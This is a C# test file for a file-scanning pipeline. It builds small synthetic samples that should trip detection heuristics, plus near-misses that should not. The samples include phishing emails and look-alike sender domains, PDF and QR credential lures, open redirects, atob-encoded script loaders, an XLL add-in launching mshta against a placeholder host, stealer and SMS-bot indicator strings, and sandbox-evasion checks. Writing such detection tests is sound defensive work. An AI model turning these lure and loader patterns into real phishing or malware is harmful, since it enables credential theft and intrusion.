using System.Reflection;
using System.Text;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;
using static ScanHost.Pipeline.Findings.DocumentHeuristics;
using static ScanHost.Pipeline.Findings.ExecutableHeuristics;
using static ScanHost.Pipeline.Findings.ImageHeuristics;
using static ScanHost.Pipeline.Findings.PackageHeuristics;
using static ScanHost.Pipeline.Findings.WebHeuristics;

namespace ScanHost.Pipeline.Tests.Audit;

/// <summary>One file that deserves each finding about baits, redirects and spies, and three that come close.</summary>
public sealed class BaitCases
{
    private const string Expires = "The password of your account expires today. <a href=\"https://host.invalid/keep?u=you@two.invalid\">Keep it</a>";
    private const string Leave = "<script>location.href=atob('aHR0cHM6Ly9ob3N0LmludmFsaWQv')";

    private static readonly HeuristicCase[] Baits =
    [
        new(BaitingLetter, Letter("a@one.invalid", Expires),
            Letter("a@one.invalid", "The password of your account expires today. <a href=\"https://one.invalid/account\">Change it</a>"),
            Letter("a@one.invalid", "The minutes of the meeting are <a href=\"https://host.invalid/m?u=you@two.invalid\">here</a>."),
            Letter("a@one.invalid\nReply-To: b@three.invalid", "The invoice over 1,200.00 EUR is due on Monday; payment by transfer to the account you know.")),
        HeuristicCase.Of(ScanLure, "a.html", Page("Your mailbox expires today. Scan the QR code with your phone to keep it."), Page("Scan the QR code with your phone to set up the second factor of your account."),
            Page("Your mailbox expires today."), Page("Scan the QR code with your phone to get our app today."),
            Page("Please enter the code that your phone shows to confirm your account. It is valid today only.")),
        new(PdfBait, Pdf("You have received a secure document. View the document with your email and password.", "https://host.invalid/d"),
            Pdf("The minutes are online.", "https://host.invalid/d"), Pdf("This document cannot be displayed. Update Adobe Reader to view the document.", "https://get.adobe.com/reader"),
            Pdf("Your order over EUR 120.00 is on its way. For questions call +49 30 1234 5678.", "https://host.invalid/d")),
        HeuristicCase.Of(OpenRedirect, "a.html", Page("<meta http-equiv=refresh content='0; url=https://www.google.com/url?q=https%3A%2F%2Fhost.invalid%2Fa&amp;sa=D'>"), Page("<meta http-equiv=refresh content='0; url=https://host.invalid/a'>"),
            Page("<a href='https://www.google.com/url?q=https%3A%2F%2Fhost.invalid%2Fa'>a</a>"), Page("<meta http-equiv=refresh content='0; url=https://www.google.com/search?q=a'>")),
        HeuristicCase.Of(HiddenSource, "a.html", Page("<script>var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9ob3N0LmludmFsaWQv');document.head.append(s)</script>"), Page("<script>s.src='https://host.invalid/a.js'</script>"),
            Page("<script>img.src='data:image/png;base64,'+data</script>"), Page("<script>s.src=atob(settings.source)</script>")),
        HeuristicCase.Of(VictimAddress, "a.html", Page(Leave + "+btoa('you@two.invalid')</script>"), Page(Leave + "</script>"), Page("<script>location.href='https://host.invalid/?u='+'you@two.invalid'</script>"), Page("<script>show('you@two.invalid')</script>")),
        HeuristicCase.Of(HidesFromRobots, "a.html", Page(Leave + ";if(navigator.webdriver)stop()</script>"), Page(Leave + "</script>"), Page("<script>if(navigator.webdriver)stop()</script>"), Page("<script>if(/bot|crawl/.test(navigator.userAgent))stop()</script>")),
    ];

    private static readonly HeuristicCase[] Spies =
    [
        new(JarSpy, Class("java/net/URLClassLoader", "Local Storage\\leveldb", "launcher_accounts.json"), Class("java/net/URLClassLoader", "launcher_accounts.json"), Class("Local Storage\\leveldb", "launcher_accounts.json"), Class("java/net/URL", "java/lang/ProcessBuilder", "keylogger")),
        new(ApkBot, Dex("abortBroadcast", "sendTextMessage", "https://host.invalid/gate.php"), Dex("abortBroadcast", "https://host.invalid/gate.php"), Dex("abortBroadcast", "sendTextMessage"), Dex("abortBroadcast", "sendTextMessage", "https://host.invalid/index.php")),
        new(PeReflective, new("a.dll", new PeBuilder().Exporting("a.dll", "ReflectiveLoader").Build()), new("a.dll", new PeBuilder().Exporting("a.dll", "Reflect").Build()), new("a.exe", new PeBuilder().WithData("ReflectiveLoader").Build()), new("a.dll", new PeBuilder().Exporting("a.dll", "Loader").Build())),
        new(PeAddInStarts, AddIn("xlAutoOpen", "WinExec", "mshta.exe https://host.invalid/"), AddIn("xlAutoOpen", "WinExec", "https://host.invalid/"), AddIn("Run", "WinExec", "mshta.exe https://host.invalid/"), AddIn("xlAutoOpen", "Sleep", "mshta.exe https://host.invalid/")),
        new(PeWatchesOut, Data("SbieDll.dll\0wireshark.exe"), Data("wireshark.exe"), Data("shark.exe\0sandbox"), Data("debugger\0monitor")),
        new(PeHiddenInstall, Behind("RunProgram=\"hidcon:cmd /c start.cmd\""), Behind("RunProgram=\"setup.exe\""), Behind("Title=\"hidcon:cmd\""), Data("RunProgram=\"hidcon:cmd /c start.cmd\"")),
        new(NetHiddenWords, Net("V#i#r#t#u#a#l#P#r#o#t#e#c#t"), Net("VirtualProtect"), Net("a,b,c,d,e,f,g,h,i,j,k"), Net("H e l l o   W o r l d")),
    ];

    private static HeuristicCase[] All => [.. Baits, .. Spies];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, All.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_file_deserves_it_and_three_that_come_close_do_not(int row) => All[row].CheckAsync();

    private static SampleFile Letter(string from, string html) =>
        new("a.eml", $"Received: from a by b; Mon, 1 Jan 2024 00:00:00 +0000\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nMessage-Id: <1@one.invalid>\nTo: you@two.invalid\nMIME-Version: 1.0\nFrom: {from}\nContent-Type: text/html\n\n{html}\n");

    [Fact]
    public async Task A_domain_that_reads_like_another_gives_a_letter_away()
    {
        foreach (var sender in new[] { "cornmerce.invalid", "c0mmerce.invalid", "comerce.invalid" })
            await new HeuristicCase(BaitingLetter, Letter($"a@{sender}", Transfer),
                Letter("a@commerce.invalid", Transfer), Letter("a@commercial.invalid", Transfer), Letter("a@another.invalid", Transfer)).CheckAsync();
    }

    private const string Transfer = "We have new bank details, please use them for the transfer today. Questions: office@commerce.invalid";

    private static string Page(string body) => $"<html><head><title>a</title></head><body>{body}</body></html>";

    private static SampleFile Pdf(string words, string link) => new("a.pdf", new PdfBuilder()
        .Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R] >>")
        .Stream(4, "", Encoding.ASCII.GetBytes($"BT /F1 12 Tf 60 700 Td ({words}) Tj ET"))
        .Add(5, $"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI ({link}) >> >>").Build());

    internal static SampleFile Class(params string[] words) => new("A.class", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52, 0, (byte)(words.Length + 1), .. words.SelectMany(word => (byte[])[1, 0, (byte)word.Length, .. Encoding.UTF8.GetBytes(word)]), .. new byte[40]]);

    private static SampleFile Dex(params string[] words) => new("classes.dex", [.. "dex\n035\0"u8, .. new byte[104], .. Encoding.UTF8.GetBytes(string.Join('\0', words) + "\0")]);

    private static SampleFile AddIn(string export, string function, string data) => new("a.xll", new PeBuilder().Exporting("a.xll", export).Importing("KERNEL32.dll", function).WithData(data + "\0").Build());

    private static SampleFile Data(string data) => new("a.exe", new PeBuilder().Importing("KERNEL32.dll", "Sleep").WithData(data + "\0").Build());

    private static SampleFile Behind(string setting) => new("a.exe", new PeBuilder().WithOverlay(Encoding.ASCII.GetBytes($";!@Install@!UTF-8!\r\n{setting}\r\n;!@InstallEnd@!\r\n" + new string('x', 80))).Build());

    private static SampleFile Net(string text)
    {
        var assembly = new System.Reflection.Emit.PersistedAssemblyBuilder(new AssemblyName("sample"), typeof(object).Assembly);
        var type = assembly.DefineDynamicModule("sample").DefineType("Worker", TypeAttributes.Public);
        var code = type.DefineMethod("Work", MethodAttributes.Public | MethodAttributes.Static, typeof(string), []).GetILGenerator();
        code.Emit(System.Reflection.Emit.OpCodes.Ldstr, text);
        code.Emit(System.Reflection.Emit.OpCodes.Ret);
        type.CreateType();
        var file = new MemoryStream();
        assembly.Save(file);
        return new("sample.dll", file.ToArray());
    }
}
